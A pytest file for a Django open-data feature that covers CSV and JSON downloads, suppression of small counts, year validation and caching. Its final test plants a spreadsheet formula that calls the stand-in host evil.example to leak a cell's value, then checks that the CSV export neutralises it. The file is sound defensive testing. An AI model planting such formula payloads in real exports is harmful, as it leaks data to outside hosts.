"""Open data (/dati/): the page, the CSV and JSON downloads and the explanation of the
indicators, for anonymous visitors, over the data set of test_indicators_dataset.py (year
2025, only the people who consent to statistics, counts below 5 suppressed)."""

import csv
import io
import json
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.db import connection
from django.http import Http404
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.html import escape

from ponte.core.suppression import SUPPRESSED
from ponte.core.tests.helpers import CAVALESE, italian, italian_html
from ponte.marketplace.models import Exchange
from ponte.pathways.models import Consent, Person
from ponte.projects.models import SubProject
from ponte.reports.indicators import INDICATORS
from ponte.reports.opendata import last_complete_year, open_indicators
from ponte.reports.tests.test_indicators_dataset import build_dataset

PAGE = reverse("opendata:index")
CSV = reverse("opendata:csv")
JSON = reverse("opendata:json")
DEFINITIONS = reverse("opendata:definitions")


@pytest.fixture
def data(municipalities, org_a, org_b, company, worker_a):
    return build_dataset(
        municipalities=municipalities, org_a=org_a, org_b=org_b, company=company, user=worker_a
    )


def consenting_people(
    data, org_a, worker_a, municipalities, count: int = 5, level: int = 3
) -> None:
    """`count` more people in charge at `level` at the end of 2025, consenting to statistics."""
    for index in range(count):
        person = Person.objects.create(
            first_name=f"Consenziente{level}{index}",
            last_name="Prova",
            basis=Person.Basis.UNCERTIFIED,
            municipality=municipalities[CAVALESE],
            level=data.levels[level],
            status=Person.Status.OPEN,
            organisation=org_a,
            opened_on=date(2025, 2, 1),
        )
        Consent.objects.create(
            person=person,
            purpose=Consent.Purpose.STATISTICS,
            given_on=date(2025, 2, 1),
            recorded_by=worker_a,
            document_reference="Prot. 3",
        )


def indicator_of(document: dict, key: str) -> dict:
    return next(item for item in document["indicators"] if item["key"] == key)


def rows_of(document: dict, key: str) -> dict[str, list]:
    return {row[0]: row[1:] for row in indicator_of(document, key)["rows"]}


# The page ----------------------------------------------------------------------------------------


def test_anyone_reads_the_open_data_of_a_year_grouped_by_dimension(client, data):
    response = client.get(PAGE, {"year": 2025})
    assert response.status_code == 200
    html = response.content.decode()
    assert "2025" in html
    for label in (
        "Empowerment of citizens",
        "Inclusive communities",
        "Generative welfare ecosystem",
    ):
        assert italian_html(label) in html
    for item in INDICATORS:
        assert f'id="indicator-{item.key}"' in html
    assert f'href="{CSV}?year=2025"' in html
    assert f'href="{JSON}?year=2025"' in html
    assert f'href="{DEFINITIONS}"' in html


def test_the_page_shows_the_last_complete_year_by_default(client, db):
    response = client.get(PAGE)
    assert response.status_code == 200
    assert response.context["year"] == date.today().year - 1
    assert response.context["years"][0] == date.today().year - 1


def test_the_page_suppresses_small_counts_and_shows_numbers_in_italian(client, data):
    response = client.get(PAGE, {"year": 2025})
    html = response.content.decode()
    section = html.split('id="indicator-people_in_charge"')[1].split("</table>")[0]
    # With consent only: anna (2) and bruno (1), one each.
    assert f'<td class="text-end">{SUPPRESSED.replace("<", "&lt;")}</td>' in section
    marketplace = html.split('id="indicator-marketplace"')[1].split("</table>")[0]
    assert "66,7" in marketplace  # the share of the cooperatives, Italian decimal comma
    assert "150" in marketplace


@pytest.mark.parametrize("year", ["abc", "1999", "", "2100", str(date.today().year)])
def test_a_year_that_is_not_open_gives_a_clear_404(client, db, year):
    response = client.get(PAGE, {"year": year} if year else {"year": "0"})
    assert response.status_code == 404
    message = italian("Open data is published for the complete years from %(first)s to %(last)s.")
    expected = message % {"first": 2000, "last": last_complete_year()}
    assert expected in response.content.decode()
    response = client.get(CSV, {"year": year or "0"})
    assert response.status_code == 404
    assert expected in response.content.decode()
    response = client.get(JSON, {"year": year or "0"})
    assert response.status_code == 404
    assert response.json() == {"error": expected}


def test_the_page_takes_the_same_queries_whatever_the_data_and_none_once_cached(
    client, data, org_a, worker_a, municipalities
):
    with CaptureQueriesContext(connection) as first:
        assert client.get(PAGE, {"year": 2025}).status_code == 200
    with CaptureQueriesContext(connection) as cached:
        assert client.get(PAGE, {"year": 2025}).status_code == 200
    # Cached for anonymous visitors: only the version is read.
    assert len(cached) == 1
    consenting_people(data, org_a, worker_a, municipalities, count=8)
    with CaptureQueriesContext(connection) as again:
        assert client.get(PAGE, {"year": 2025}).status_code == 200
    assert len(again) == len(first)


def test_new_data_shows_at_the_next_request(client, data, org_a, company, worker_a):
    before = client.get(JSON, {"year": 2025}).json()
    assert rows_of(before, "marketplace")[indicator_of(before, "marketplace")["rows"][0][0]] == [
        150.0
    ]
    confirmed = timezone.make_aware(datetime(2026, 1, 1, 12))
    Exchange.objects.create(
        giver=company,
        receiver=org_a,
        what="Lavanderia",
        value=Decimal("25.50"),
        exchanged_on=date(2025, 7, 1),
        recorded_by=worker_a,
        giver_confirmed_at=confirmed,
        receiver_confirmed_at=confirmed,
    )
    after = client.get(JSON, {"year": 2025}).json()
    assert indicator_of(after, "marketplace")["rows"][0][1] == 175.5


def test_signed_in_users_read_it_too(client, data, coordinator):
    client.force_login(coordinator)
    assert client.get(PAGE, {"year": 2025}).status_code == 200


def test_open_data_is_in_the_navigation_of_every_visitor(client, db):
    html = client.get(reverse("network:home")).content.decode()
    assert f'href="{PAGE}"' in html
    assert italian_html("Open data") in html


# Downloads ---------------------------------------------------------------------------------------


def test_the_json_holds_numbers_and_suppressed_counts(
    client, data, org_a, worker_a, municipalities
):
    consenting_people(data, org_a, worker_a, municipalities)
    response = client.get(JSON, {"year": 2025})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    document = response.json()
    assert document["period"] == {"year": 2025, "start": "2025-01-01", "end": "2025-12-31"}
    assert [item["key"] for item in document["indicators"]] == [i.key for i in INDICATORS]
    for item in document["indicators"]:
        assert set(item) >= {"key", "title", "dimension", "unit", "definition", "columns", "rows"}
        for row in item["rows"]:
            assert isinstance(row[0], str)
            for cell in row[1:]:
                assert cell is None or cell == SUPPRESSED or type(cell) in (int, float)
    levels = [row[1] for row in indicator_of(document, "people_in_charge")["rows"]]
    # Levels 0..5 and the total: 0; bruno; anna; the five new people; 0; 0; and the total of
    # 7 withheld: minus the 5 shown, it would tell that bruno and anna are alone at their level.
    assert levels == [0, SUPPRESSED, SUPPRESSED, 5, 0, 0, None]
    marketplace = [row[1] for row in indicator_of(document, "marketplace")["rows"]]
    assert marketplace == [150.0, 100.0, 66.7, 3, 1]  # organisations: not suppressed
    employment = indicator_of(document, "employment_rate")["rows"]
    assert employment[0][1:] == [None, SUPPRESSED, None]


def test_the_csv_is_tidy_utf8_with_a_header(client, data, org_a, worker_a, municipalities):
    consenting_people(data, org_a, worker_a, municipalities)
    consenting_people(data, org_a, worker_a, municipalities, count=1, level=1)
    response = client.get(CSV, {"year": 2025})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="indicatori-2025.csv"' in response["Content-Disposition"]
    lines = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert list(lines[0]) == [
        "year",
        "indicator",
        "title",
        "dimension",
        "unit",
        "row",
        "column",
        "value",
    ]
    people = [line for line in lines if line["indicator"] == "people_in_charge"]
    # 2 at level 1 and 1 at level 2 hidden: the total, 8, is withheld (empty) like every
    # total with a hidden part.
    assert [line["value"] for line in people] == ["0", SUPPRESSED, SUPPRESSED, "5", "0", "0", ""]
    value = next(line for line in lines if line["indicator"] == "marketplace")
    assert value["value"] == "150.00"
    assert value["dimension"] == "ecosystem"
    for line in lines:
        if line["value"] not in ("", SUPPRESSED):
            float(line["value"])  # a number


def test_the_api_entry_point_gives_the_same_document(client, data):
    document = open_indicators(2025)
    assert client.get(JSON, {"year": 2025}).json() == json.loads(json.dumps(document))
    with pytest.raises(Http404):
        open_indicators(date.today().year)


# The definitions ---------------------------------------------------------------------------------


def test_the_definitions_page_explains_each_indicator_and_the_suppression(client, db):
    response = client.get(DEFINITIONS)
    assert response.status_code == 200
    html = response.content.decode()
    for item in INDICATORS:
        assert f'id="{item.key}"' in html
        with translation.override("it"):
            assert escape(str(item.title)) in html
    assert italian_html("How small counts are suppressed") in html


@pytest.mark.parametrize("address", [PAGE, CSV, JSON, DEFINITIONS])
def test_open_data_only_answers_reads(client, db, address):
    assert client.post(address, {"year": 2025}).status_code == 405


def test_no_cell_of_the_csv_is_a_formula(client, data):
    """ponte/core/exports.py: titles and labels come from what members typed."""
    formula = '=HYPERLINK("http://evil.example/?"&B3,"Laboratorio")'
    SubProject.objects.filter(title="Laboratorio").update(title=formula)
    response = client.get(CSV, {"year": 2025})
    cells = [
        cell for line in csv.reader(io.StringIO(response.content.decode("utf-8"))) for cell in line
    ]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [cell for cell in cells if cell.startswith("-") and not cell[1:2].isdigit()]
